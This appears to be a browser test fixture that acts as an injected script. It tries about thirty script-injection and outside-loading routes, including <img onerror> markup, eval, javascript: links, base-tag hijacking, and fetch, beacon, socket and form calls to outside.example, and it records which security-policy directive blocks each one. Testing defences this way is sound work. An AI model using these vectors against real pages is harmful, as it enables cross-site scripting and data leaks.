// A script that got into the page, as a script of the site itself: it tries what one could want. What
// an automation evaluates is spared some of the page's rules, so the page has to run it by itself.
// On <html> it writes what it could run (data-ran) and what each attempt was stopped by (data-tried).
(() => {
  const page = document.documentElement.dataset;
  /** @type {string[]} */
  const done = [];
  /** @type {string[]} */
  const stopped = [];
  Object.assign(globalThis, {
    /** @param {string} name */
    ran(name) {
      done.push(name);
      page['ran'] = JSON.stringify(done);
    },
  });
  document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => {
    stopped.push(effectiveDirective);
  });

  /** @param {string} name */
  const code = (name) => `ran('${name}')`;
  /** @param {string} name */
  const outside = (name) => `http://${name}.outside.example/script.js`;
  /**
   * @template {keyof HTMLElementTagNameMap} Tag
   * @param {Tag} tag
   * @param {Partial<HTMLElementTagNameMap[Tag]>} properties
   */
  const put = (tag, properties) => {
    const element = Object.assign(document.createElement(tag), properties);
    document.body.append(element);
    return element;
  };

  /** @type {Record<string, (name: string) => unknown>} */
  const attempts = {
    markup: (name) => {
      put('div', {}).innerHTML = `<img src="data:," onerror="${code(name)}">`;
    },
    'markup-beside': (name) =>
      put('div', {}).insertAdjacentHTML('beforeend', `<img src="data:," onerror="${code(name)}">`),
    'frame-markup': (name) =>
      put('iframe', { srcdoc: `<img src="data:," onerror="parent.${code(name)}">` }),
    eval: (name) => eval(code(name)),
    'new-function': (name) => new Function(code(name))(),
    'string-timer': (name) => setTimeout(code(name)),
    'inline-script': (name) => put('script', { textContent: code(name) }),
    'script-of-a-text-node': (name) => {
      const script = document.createElement('script');
      script.append(code(name));
      document.body.append(script);
    },
    'inline-handler': (name) => {
      const button = put('button', {});
      button.setAttribute('onclick', code(name));
      button.click();
    },
    'script-link': (name) => put('a', { href: `javascript:${code(name)}` }).click(),
    'second-policy': (name) => {
      trustedTypes?.createPolicy('other', { createScriptURL: String });
      done.push(name);
    },
    'default-policy': (name) => {
      trustedTypes?.createPolicy('default', { createScriptURL: String });
      done.push(name);
    },
    'own-policy-again': (name) => {
      trustedTypes?.createPolicy('carrel', { createScriptURL: String });
      done.push(name);
    },
    base: (name) => {
      const base = put('base', { href: outside(name) });
      if (document.baseURI === base.href) done.push(name);
      base.remove();
    },
    script: (name) => put('script', { src: outside(name) }),
    import: (name) => import(outside(name)),
    'blob-worker': (name) => {
      const blob = new Blob([`fetch('${outside(name)}')`], { type: 'text/javascript' });
      return new Worker(URL.createObjectURL(blob));
    },
    fetch: (name) => fetch(outside(name), { mode: 'no-cors' }),
    beacon: (name) => navigator.sendBeacon(outside(name), 'x'),
    image: (name) => put('img', { src: outside(name) }),
    socket: (name) => new WebSocket(outside(name).replace('http', 'ws')),
    'event-source': (name) => new EventSource(outside(name)),
    frame: (name) => put('iframe', { src: outside(name) }),
    object: (name) => put('object', { data: outside(name) }),
    'style-sheet': (name) => put('link', { rel: 'stylesheet', href: outside(name) }),
    'style-element': (name) =>
      put('style', { textContent: `body { background: url('${outside(name)}') }` }),
    'style-attribute': (name) =>
      put('p', {}).setAttribute('style', `background: url('${outside(name)}')`),
    form: (name) => {
      put('iframe', { name: 'target' });
      put('form', { action: outside(name), target: 'target' }).submit();
    },
  };

  const isGuarded = document.querySelector('meta[http-equiv]') !== null;
  /** What the browser says it has stopped since this was last asked, once it has said so. */
  const nextStop = async () => {
    let left = isGuarded ? 200 : 0;
    while (stopped.length === 0 && left > 0) {
      left -= 1;
      await new Promise((resolve) => {
        setTimeout(resolve, 10);
      });
    }
    return [...new Set(stopped.splice(0))].join(' ') || 'nothing';
  };

  const tryAll = async () => {
    /** @type {Record<string, string>} */
    const tried = { 'of-the-page': await nextStop() };
    for (const [name, attempt] of Object.entries(attempts)) {
      try {
        // What is refused later is heard of as a violation too.
        Promise.resolve(attempt(name)).catch(() => {});
      } catch {
        // Refused at once: the violation says by what.
      }
      tried[name] = await nextStop();
    }
    page['ran'] = JSON.stringify(done);
    page['tried'] = JSON.stringify(tried);
  };
  addEventListener('try', () => void tryAll());
})();
